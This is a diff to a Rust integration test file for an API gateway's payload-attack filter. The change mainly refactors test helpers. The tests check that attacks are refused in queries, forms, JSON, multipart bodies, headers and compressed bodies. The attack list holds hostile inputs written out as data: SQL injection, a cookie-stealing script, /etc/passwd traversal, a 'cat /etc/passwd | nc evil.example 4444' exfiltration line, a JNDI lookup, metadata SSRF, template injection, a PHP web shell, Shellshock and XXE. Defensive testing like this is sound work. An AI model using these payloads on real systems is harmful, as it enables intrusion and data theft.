@@ -2,14 +2,15 @@
 //! sees nothing of what is refused.
 #![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test that cannot go on has failed")]
 
+use std::ops::Deref;
 use std::thread;
 use std::time::Duration;
 
-use portcullis_tests::client::{Call, Client, Response, call_h2};
+use portcullis_tests::client::{Call, call_h2};
 use portcullis_tests::gateway::Gateway;
 use portcullis_tests::idp::Idp;
 use portcullis_tests::introspection::{Client as Caller, Introspector};
-use portcullis_tests::services::Service;
+use portcullis_tests::protected::ProtectedService;
 use portcullis_tests::{eventually, refusal};
 use serde_json::json;
 
@@ -18,8 +19,7 @@ const SCRIPT: &str = "<script>alert(document.cookie)</script>";
 const ASKED: Duration = Duration::from_millis(250);
 
 struct World {
-    gateway: Gateway,
-    service: Service,
+    api: ProtectedService,
     introspector: Introspector,
     _idp: Idp,
 }
@@ -30,8 +30,7 @@ impl World {
         let introspector = Introspector::at(&idp, "/introspect", Caller::Post("gw".to_owned(), "s3cret".to_owned()));
         introspector.endpoint().set_delay(ASKED);
         introspector.activate("good", json!({"sub": "alice"}));
-        let service = Service::plain("api").unwrap();
-        let gateway = Gateway::builder()
+        let builder = Gateway::builder()
             .filter(json!({
                 "version": 1,
                 "providers": {"partner": {"introspection": {
@@ -51,36 +50,17 @@ impl World {
                 ],
             }))
             .idp(&idp)
-            .service(&service)
             .connection_manager("http_protocol_options", json!({"enable_trailers": true}))
-            .connection_manager("upgrade_configs", json!([{"upgrade_type": "websocket"}]))
-            .start()
-            .unwrap();
-        Self { gateway, service, introspector, _idp: idp }
+            .connection_manager("upgrade_configs", json!([{"upgrade_type": "websocket"}]));
+        Self { api: ProtectedService::start(builder), introspector, _idp: idp }
     }
+}
 
-    fn in_chunks<'a>(&self, call: Call, chunks: impl IntoIterator<Item = &'a [u8]>, end: &[u8]) -> Response {
-        self.connect().call_in_chunks(call, chunks, end).unwrap()
-    }
+impl Deref for World {
+    type Target = ProtectedService;
 
-    fn connect(&self) -> Client {
-        Client::connect(self.gateway.port()).unwrap()
-    }
-
-    fn call(&self, call: &Call) -> Response {
-        self.connect().call(call).unwrap()
-    }
-
-    fn seen(&self) -> usize {
-        self.service.requests().len()
-    }
-
-    /// The call is refused, and the service never hears of it.
-    fn refuses(&self, call: &Call, what: &str) {
-        let before = self.seen();
-        let response = self.call(call);
-        refusal::check(&response, 403, "payload_attack").unwrap_or_else(|error| panic!("{what}: {error}"));
-        assert_eq!(self.seen(), before, "{what}: the service saw it");
+    fn deref(&self) -> &ProtectedService {
+        &self.api
     }
 }
 
@@ -96,29 +76,29 @@ fn escaped(value: &str) -> String {
 fn an_attack_is_refused_wherever_it_stands() {
     let world = World::start();
     let attacks = [
-        ("sqli", "1' UNION SELECT name, password FROM users-- "),
-        ("xss", SCRIPT),
-        ("traversal", "../../../../etc/passwd"),
-        ("command", "; cat /etc/passwd | nc evil.example 4444"),
-        ("lookup", "${jndi:ldap://evil.example/a}"),
-        ("ssrf", "http://169.254.169.254/latest/meta-data/iam/"),
-        ("template", "{{7*7}}{{config.__class__.__init__.__globals__}}"),
-        ("php", "<?php system($_GET['c']); ?>"),
+        "1' UNION SELECT name, password FROM users-- ",
+        SCRIPT,
+        "../../../../etc/passwd",
+        "; cat /etc/passwd | nc evil.example 4444",
+        "${jndi:ldap://evil.example/a}",
+        "http://169.254.169.254/latest/meta-data/iam/",
+        "{{7*7}}{{config.__class__.__init__.__globals__}}",
+        "<?php system($_GET['c']); ?>",
     ];
-    for (family, attack) in attacks {
-        world.refuses(&Call::get(&format!("/api?q={}", escaped(attack))), &format!("{family} in the query"));
+    for attack in attacks {
+        world.refuses_attack(&Call::get(&format!("/api?q={}", escaped(attack))));
         let form = Call::new("POST", "/api").header("content-type", "application/x-www-form-urlencoded");
-        world.refuses(&form.body(format!("a=1&q={}", escaped(attack))), &format!("{family} in a form"));
-        world.refuses(&json_body(&json!({"id": 7, "deep": [{"q": attack}]}).to_string()), &format!("{family} in JSON"));
+        world.refuses_attack(&form.body(format!("a=1&q={}", escaped(attack))));
+        world.refuses_attack(&json_body(&json!({"id": 7, "deep": [{"q": attack}]}).to_string()));
         let part = format!("--b\r\ncontent-disposition: form-data; name=\"q\"\r\n\r\n{attack}\r\n--b--\r\n");
         let multipart = Call::new("POST", "/api").header("content-type", "multipart/form-data; boundary=b").body(part);
-        world.refuses(&multipart, &format!("{family} in multipart"));
-        world.refuses(&Call::get("/api").header("x-custom", attack), &format!("{family} in a header"));
+        world.refuses_attack(&multipart);
+        world.refuses_attack(&Call::get("/api").header("x-custom", attack));
     }
-    world.refuses(&Call::get("/api").header("cookie", "id=1' union select password from users--"), "a cookie");
-    world.refuses(&Call::get("/api").header("user-agent", "() { :; }; /bin/bash -c id"), "shellshock");
+    world.refuses_attack(&Call::get("/api").header("cookie", "id=1' union select password from users--"));
+    world.refuses_attack(&Call::get("/api").header("user-agent", "() { :; }; /bin/bash -c id"));
     let entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
-    world.refuses(&Call::new("POST", "/api").header("content-type", "text/xml").body(entity), "an entity");
+    world.refuses_attack(&Call::new("POST", "/api").header("content-type", "text/xml").body(entity));
     world.gateway.check_unharmed().unwrap();
 }
 
@@ -146,17 +126,17 @@ fn however_a_body_is_cut_it_is_judged_whole() {
     for at in 1..body.len() {
         let (first, second) = body.as_bytes().split_at(at);
         let call = Call::new("POST", "/api").header("content-type", "application/json");
-        let response = world.in_chunks(call, [first, second], b"0\r\n\r\n");
+        let response = world.call_in_chunks(call, [first, second], b"0\r\n\r\n");
         refusal::check(&response, 403, "payload_attack").unwrap_or_else(|error| panic!("cut at {at}: {error}"));
     }
     let call = || Call::new("POST", "/api").header("content-type", "application/json");
-    let response = world.in_chunks(call(), body.as_bytes().chunks(1), b"0\r\n\r\n");
+    let response = world.call_in_chunks(call(), body.as_bytes().chunks(1), b"0\r\n\r\n");
     refusal::check(&response, 403, "payload_attack").unwrap();
-    let response = world.in_chunks(call(), [body.as_bytes()], b"0\r\nx-checksum: 1\r\n\r\n");
+    let response = world.call_in_chunks(call(), [body.as_bytes()], b"0\r\nx-checksum: 1\r\n\r\n");
     refusal::check(&response, 403, "payload_attack").unwrap();
     assert_eq!(world.seen(), before, "no head went ahead of its body");
     let good = json!({"id": 7, "q": "fine"}).to_string();
-    assert_eq!(world.in_chunks(call(), good.as_bytes().chunks(3), b"0\r\nx-checksum: 1\r\n\r\n").status, 200);
+    assert_eq!(world.call_in_chunks(call(), good.as_bytes().chunks(3), b"0\r\nx-checksum: 1\r\n\r\n").status, 200);
     assert_eq!(world.service.requests().last().unwrap().body, good.as_bytes());
     world.gateway.check_unharmed().unwrap();
 }
@@ -183,9 +163,10 @@ fn a_request_that_is_held_for_its_caller_is_judged_after_it() {
     for number in 0..4 {
         let token = format!("good-{number}");
         world.introspector.activate(&token, json!({"sub": "alice"}));
-        world.refuses(&call(&token, &json!({"q": SCRIPT}).to_string()), "a body that came before the verdict");
+        // The body comes before the provider's word.
+        world.refuses_attack(&call(&token, &json!({"q": SCRIPT}).to_string()));
     }
-    // The body comes after the provider's word.
+    // And after it.
     world.introspector.activate("late", json!({"sub": "alice"}));
     let bytes = call("late", &json!({"q": SCRIPT}).to_string()).to_bytes();
     let (first, second) = bytes.split_at(bytes.len() - 20);
@@ -218,9 +199,9 @@ fn a_compressed_body_is_judged_by_what_it_holds() {
         call.header("content-encoding", coding).body(body)
     };
     let attack = json!({"q": SCRIPT}).to_string();
-    world.refuses(&call("gzip", gzip(attack.as_bytes())), "gzip");
+    world.refuses_attack(&call("gzip", gzip(attack.as_bytes())));
     let deflated = miniz_oxide::deflate::compress_to_vec_zlib(attack.as_bytes(), 6);
-    world.refuses(&call("deflate", deflated), "deflate");
+    world.refuses_attack(&call("deflate", deflated));
     refusal::check(&world.call(&call("br", b"x".to_vec())), 415, "body_encoding_refused").unwrap();
     refusal::check(&world.call(&call("gzip", b"plain".to_vec())), 400, "body_malformed").unwrap();
     let bomb = gzip(&vec![b' '; 8 << 20]);
@@ -238,7 +219,7 @@ fn a_body_that_is_too_long_is_refused_or_judged_by_its_beginning() {
     let long = format!("{{\"pad\": \"{}\"}}", "x".repeat(40_000));
     refusal::check(&world.call(&json_body(&long)), 413, "body_too_large").unwrap();
     let call = || Call::new("POST", "/api").header("content-type", "application/json");
-    refusal::check(&world.in_chunks(call(), long.as_bytes().chunks(8192), b"0\r\n\r\n"), 413, "body_too_large")
+    refusal::check(&world.call_in_chunks(call(), long.as_bytes().chunks(8192), b"0\r\n\r\n"), 413, "body_too_large")
         .unwrap();
     let start = |body: &str| {
         let call = Call::new("POST", "/api/start").header("content-type", "application/json").body(body);
@@ -256,7 +237,7 @@ fn in_monitor_mode_everything_passes_and_the_log_has_the_exception() {
     let call = Call::new("POST", "/api/watched").header("content-type", "application/json");
     let response = world.call(&call.body(json!({"html": SCRIPT}).to_string()));
     assert_eq!(response.status, 200);
-    let event = world.gateway.audit_of(response.header("x-request-id").unwrap()).unwrap();
+    let event = world.audit_of(&response);
     assert_eq!(
         (&event["event.action"], &event["event.reason"]),
         (&json!("request_monitored"), &json!("payload_attack"))
@@ -270,7 +251,7 @@ fn in_monitor_mode_everything_passes_and_the_log_has_the_exception() {
     let except = Call::new("POST", "/api/except").header("content-type", "application/json");
     assert_eq!(world.call(&except.body(json!({"html": SCRIPT}).to_string())).status, 200);
     let other = Call::new("POST", "/api/except").header("content-type", "application/json");
-    world.refuses(&other.body(json!({"other": SCRIPT}).to_string()), "another parameter");
+    world.refuses_attack(&other.body(json!({"other": SCRIPT}).to_string()));
 }
 
 #[test]
@@ -342,7 +323,7 @@ fn the_first_message_of_a_grpc_call_is_judged_before_its_head_goes_on() {
         assert_eq!((response.status, response.header("grpc-status")), (200, Some("7")), "cut at {at}");
         assert_eq!(seen(), 0, "cut at {at}: the service saw it");
     }
-    let call = |body: &[u8], path: &str| world.connect().call_in_chunks(grpc_call(path), [body], b"0\r\n\r\n").unwrap();
+    let call = |body: &[u8], path: &str| world.call_in_chunks(grpc_call(path), [body], b"0\r\n\r\n");
     assert_eq!(call(&attack, "/api").header("grpc-status"), Some("7"));
     // An honest one goes on at once, and what follows it as it comes.
     let mut client = world.connect();
@@ -355,7 +336,7 @@ fn the_first_message_of_a_grpc_call_is_judged_before_its_head_goes_on() {
     // Watched, and where the service speaks first.
     let watched = call(&attack, "/api/watched");
     assert_eq!((watched.status, watched.header("grpc-status")), (200, None));
-    let event = world.gateway.audit_of(watched.header("x-request-id").unwrap()).unwrap();
+    let event = world.audit_of(&watched);
     assert_eq!(event["event.action"], json!("request_monitored"), "{event}");
     let before = seen();
     let mut client = world.connect();
